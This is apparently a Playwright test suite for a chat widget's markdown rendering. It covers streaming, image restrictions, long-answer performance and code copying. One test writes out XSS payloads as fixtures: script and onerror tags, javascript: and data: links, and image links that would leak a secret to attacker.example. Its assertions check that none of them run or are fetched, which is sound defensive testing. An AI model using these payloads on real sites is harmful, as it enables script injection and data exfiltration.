"""Markdown is drawn as it comes, safely, and a long answer costs no more at its end."""

from collections.abc import Callable

import pytest
from chat_page import ChatPage
from main_thread import watching
from playwright.sync_api import Request, Route, expect
from stage import IMAGES, Stage

from chatwidget.providers import Gate, pause
from chatwidget.providers.scripted import Line

LONG_WORDS = 20_000

LONGEST_TASK = 50.0
"""Milliseconds: beyond it a browser counts a task as long (https://w3c.github.io/longtasks/)."""


def test_markdown_becomes_elements(chat: ChatPage, stage: Stage) -> None:
    stage.plays.write(
        "all kinds",
        "# A title\n\nSome **bold**, *slanted* and `code`.\n\n- one\n- two\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n",
        "A [link](https://example.org/) and ~~gone~~.",
    )
    chat.open().ask("all kinds")
    chat.expect_ready()
    answer = chat.answer
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("em")).to_have_text("slanted")
    expect(answer.locator("li")).to_have_text(["one", "two"])
    expect(answer.locator("td")).to_have_text(["1", "2"])
    expect(answer.locator("pre code")).to_have_text("print('hi')\n")
    expect(answer.locator("del")).to_have_text("gone")
    link = answer.locator("a")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")


def test_half_written_markdown_is_drawn_as_what_it_will_become(
    chat: ChatPage, stage: Stage
) -> None:
    gate = Gate()
    stage.plays.write("half", "This is **bo", gate, "ld** now.")
    chat.open().ask("half")
    expect(chat.answer).to_have_text("This is bo")
    expect(chat.answer.locator("strong")).to_have_text("bo")
    gate.open()
    chat.expect_answer("This is bold now.")


def test_what_a_model_writes_is_never_run_or_fetched(chat: ChatPage, stage: Stage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    stage.plays.write(
        "attack",
        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n",
        "![x](https://attacker.example/?q=secret) [a](java\tscript:alert(1)) ",
        "[b](javascript:alert(1)) [c](data:text/html,x)",
    )
    chat.open().ask("attack")
    chat.expect_ready()
    expect(chat.answer).to_contain_text("<script>alert(2)</script>")
    assert chat.answer.locator("img, script, iframe").count() == 0
    assert not any("attacker.example" in url for url in asked)
    schemes = chat.answer.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(schemes) <= {"https:", "http:"}


@pytest.mark.needs("route")
def test_images_come_from_where_they_may_and_move_nothing(chat: ChatPage, stage: Stage) -> None:
    asked: list[Request] = []
    held: list[Route] = []
    chat.page.on("request", lambda request: asked.append(request))
    chat.page.route(f"{IMAGES}/**", lambda route: held.append(route))
    stage.plays.write(
        "pictures",
        f"![A red bar]({IMAGES}/bar.svg)\n\n",
        f"![Not ours](https://other.example/?q=secret) and ![none]({IMAGES}.evil.example/x)",
    )
    chat.open().ask("pictures")
    chat.expect_ready()
    image = chat.answer.locator("img")
    expect(image).to_have_attribute("alt", "A red bar")
    assert chat.answer.locator("a").all_text_contents() == ["Not ours", "none"]
    expect(image).to_be_in_viewport()
    before = chat.log.evaluate("e => e.scrollHeight")
    while not held:
        chat.page.wait_for_event("request")
    held[0].fulfill(
        body='<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="3000"/>',
        content_type="image/svg+xml",
    )
    chat.page.wait_for_function(
        """() => document.querySelector('chat-widget').shadowRoot.querySelector('.text img')
          .naturalWidth"""
    )
    assert chat.log.evaluate("e => e.scrollHeight") == before
    box = image.bounding_box()
    log = chat.log.bounding_box()
    assert box is not None
    assert log is not None
    assert box["width"] <= log["width"]
    foreign = [request for request in asked if not request.url.startswith(chat.url)]
    assert [request.url for request in foreign] == [f"{IMAGES}/bar.svg"]
    assert "referer" not in foreign[0].all_headers()


def test_a_selection_survives_what_comes_after_it(chat: ChatPage, stage: Stage) -> None:
    gate = Gate()
    stage.plays.write("select", "A paragraph to keep.\n\nAnd another", gate, " one.")
    chat.open().ask("select")
    expect(chat.answer).to_contain_text("And another")
    first = chat.answer.locator("p").first
    first.evaluate("e => { window.kept = e; e.dataset.kept = 'yes' }")
    gate.open()
    expect(chat.answer).to_contain_text("And another one.")
    assert first.evaluate("e => e === window.kept")


def very_long_answer() -> list[str]:
    """Return an answer of `LONG_WORDS`, in pieces of the size that models send."""
    sentence = "Some *words* of a **long** answer, with `code` and a [link](https://example.org). "
    paragraph = f"{sentence * 6}\n\n"
    paragraphs = [paragraph] * (LONG_WORDS // len(paragraph.split()) + 1)
    return [text[at : at + 24] for text in paragraphs for at in range(0, len(text), 24)]


def wait_for_the_end(chat: ChatPage) -> None:
    # Only the last block is looked at: reading all of it would be a long task of the test's own.
    chat.page.wait_for_function(
        """() => document.querySelector('chat-widget').shadowRoot
          .querySelector('[part~=assistant-message] .text')
          ?.lastElementChild?.textContent.endsWith('THE END')""",
        timeout=60_000,
    )


@pytest.mark.needs("cdp")
@pytest.mark.timeout(120)
def test_a_very_long_answer_at_once_has_no_long_task(
    chat: ChatPage, stage: Stage, request: pytest.FixtureRequest
) -> None:
    stage.plays.write("very long", *very_long_answer(), "THE END")
    chat.open()
    with watching(request.getfixturevalue("browser"), chat.page) as thread:
        chat.ask("very long")
        wait_for_the_end(chat)
    assert len((chat.answer.text_content() or "").split()) > LONG_WORDS * 0.9
    assert thread.longest_task <= LONGEST_TASK


@pytest.mark.needs("cdp")
@pytest.mark.timeout(120)
def test_a_token_late_in_a_very_long_answer_costs_what_an_early_one_does(
    chat: ChatPage, stage: Stage, request: pytest.FixtureRequest
) -> None:
    lines: list[Line] = []
    for number, piece in enumerate(very_long_answer()):
        # A thousand pieces a second, which is far more than a model writes.
        lines += [piece] if number % 8 else [pause(0.008), piece]
    stage.plays.write("steadily", *lines, "THE END")
    chat.open()
    with watching(request.getfixturevalue("browser"), chat.page) as thread:
        chat.ask("steadily")
        wait_for_the_end(chat)
    assert thread.longest_task <= LONGEST_TASK
    assert thread.frame_price(0.75, 1) <= 1.5 * thread.frame_price(0, 0.25)


def test_code_is_coloured_and_copied_as_it_is_written(
    chat: ChatPage, stage: Stage, complaints: list[str], breaches: Callable[[], list[str]]
) -> None:
    gate = Gate()
    source = "const greeting = `Hi ${name}`; // <b>\n"
    stage.plays.write("code", f"```js\n{source}", gate, "```\n\nThat was it.")
    chat.open("strict").ask("code")
    code = chat.answer.locator("pre code")
    expect(code).to_contain_text("// <b>")
    assert code.locator("span").count() == 0, "coloured before it was complete"
    gate.open()
    expect(code.locator(".hl-keyword")).to_have_text("const")
    assert code.text_content() == source
    plain, keyword = (
        place.evaluate("e => getComputedStyle(e).color")
        for place in (code, code.locator("span").first)
    )
    assert plain != keyword
    # In its place, because not every browser lets a test read its clipboard.
    chat.page.evaluate(
        """() => Object.defineProperty(navigator, 'clipboard', { value: {
          write: async ([item]) => {
            window.copied = await (await item.getType('text/plain')).text();
          },
        } })"""
    )
    button = chat.answer.locator("[part~=copy-code]")
    button.click()
    expect(button).to_have_text("Copied")
    assert chat.page.evaluate("window.copied") == source
    assert breaches() == []
    assert complaints == []
